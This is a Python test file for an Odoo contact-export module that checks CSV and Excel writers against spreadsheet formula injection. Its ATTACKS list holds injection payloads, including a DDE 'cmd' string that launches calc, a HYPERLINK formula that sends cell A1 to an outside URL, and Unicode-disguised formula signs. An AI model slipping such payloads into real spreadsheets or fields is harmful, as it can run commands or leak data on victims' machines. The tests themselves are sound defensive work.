# Copyright 2026 Contact Segments contributors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).

import csv
import io
import random
import unicodedata
from datetime import date, datetime

import openpyxl

from odoo.tests import BaseCase

from ...tools.spreadsheet import iterate_csv, make_safe, write_xlsx

ATTACKS = [
    "=1+1",
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
    "⁺1",
    '=HYPERLINK("https://example.com/?"&A1,"Click")',
]
HARMLESS = ["", "Anna", "a=b", "1+1", "x@example.com", "'t Hof", "001", "€ 5", "–"]


class TestSpreadsheet(BaseCase):
    """Values in files: nothing that is written there runs, and all can be read."""

    def read_csv(self, rows, delimiter=",", **options):
        content = b"".join(iterate_csv(["Title"], rows, delimiter, **options))
        self.assertTrue(content.startswith("\ufeff".encode()))
        text = io.StringIO(content.decode("utf-8-sig"), newline="")
        return list(csv.reader(text, delimiter=delimiter))[1:]

    def read_xlsx(self, rows, title="Sheet"):
        stream = io.BytesIO()
        write_xlsx(stream, ["Title"], rows, title)
        stream.seek(0)
        return openpyxl.load_workbook(stream).active

    def assert_safe(self, cell):
        # as a spreadsheet may look at it: blanks skipped, full-width signs folded
        seen = "".join(
            char
            for char in unicodedata.normalize("NFKC", cell)
            if not char.isspace() and unicodedata.category(char) not in ("Cc", "Cf")
        )
        self.assertNotIn(seen[:1], ("=", "+", "-", "@"), repr(cell))
        self.assertNotIn(cell[:1], ("\t", "\r", "\n"), repr(cell))

    def test_attacks_get_an_apostrophe(self):
        for text in ATTACKS:
            self.assertEqual(make_safe(text), f"'{text}")
            self.assert_safe(make_safe(text))

    def test_harmless_texts_stay_as_they_are(self):
        for text in HARMLESS:
            self.assertEqual(make_safe(text), text)

    def test_no_text_can_be_a_formula(self):
        signs = "=+-@＝＋－＠﹢﹣﹦﹫⁺₊⁼\t\r\n \u00a0\u200b\u2060\ufeff'\",;|aé1漢😀"
        generator = random.Random(20261123)
        texts = [
            "".join(generator.choices(signs, k=generator.randint(0, 6)))
            for _number in range(3000)
        ]
        rows = self.read_csv([[text, "end"] for text in texts], ";")
        self.assertEqual(len(rows), len(texts))
        for row, text in zip(rows, texts, strict=True):
            self.assertEqual(len(row), 2)
            self.assert_safe(row[0])
            # nothing is lost
            self.assertIn(row[0], (text, f"'{text}"))

    def test_attacks_are_texts_in_excel(self):
        sheet = self.read_xlsx([[text] for text in [*ATTACKS, "https://example.com"]])
        for row in sheet.iter_rows(min_row=2):
            self.assertEqual(row[0].data_type, "s")
            self.assertIsNone(row[0].hyperlink)
        self.assertEqual(sheet["A2"].value, "=1+1")

    def test_cells_end_where_they_should(self):
        text = 'a;b,"c"\nd\te'
        for delimiter in ",;\t|":
            [row] = self.read_csv([[text, "end"]], delimiter)
            self.assertEqual(row, [text, "end"])

    def test_values_of_a_csv(self):
        row = [None, True, False, 1234.5, -3, date(2026, 4, 5)]
        row.append(datetime(2026, 4, 5, 6, 7, 8))
        [read] = self.read_csv([row], ";", decimal_point=",")
        self.assertEqual(
            read,
            ["", "TRUE", "FALSE", "1234,5", "-3", "2026-04-05", "2026-04-05 06:07:08"],
        )

    def test_values_of_excel(self):
        day, moment = date(2026, 4, 5), datetime(2026, 4, 5, 6, 7, 8)
        row = [None, True, 1.5, day, moment, date(1850, 1, 1), "x" * 40_000, "\x02"]
        sheet = self.read_xlsx([row], title="S1: [a]/b*?'" + "x" * 40)
        cells = [cell.value for cell in sheet[2]]
        self.assertEqual(cells[:3], [None, True, 1.5])
        self.assertEqual(cells[3].date(), day)
        self.assertEqual(cells[4], moment)
        self.assertEqual(cells[5], "1850-01-01")
        self.assertEqual(len(cells[6]), 32_767)
        self.assertLessEqual(len(sheet.title), 31)

    def test_many_rows_are_written_while_they_are_read(self):
        read = []

        def make_rows():
            for number in range(20_000):
                read.append(number)
                yield [f"Contact {number}"]

        pieces = iterate_csv(["Title"], make_rows())
        next(pieces)
        self.assertLess(len(read), 10_000)
        self.assertEqual(sum(piece.count(b"\r\n") for piece in pieces) > 0, True)
        self.assertEqual(len(read), 20_000)
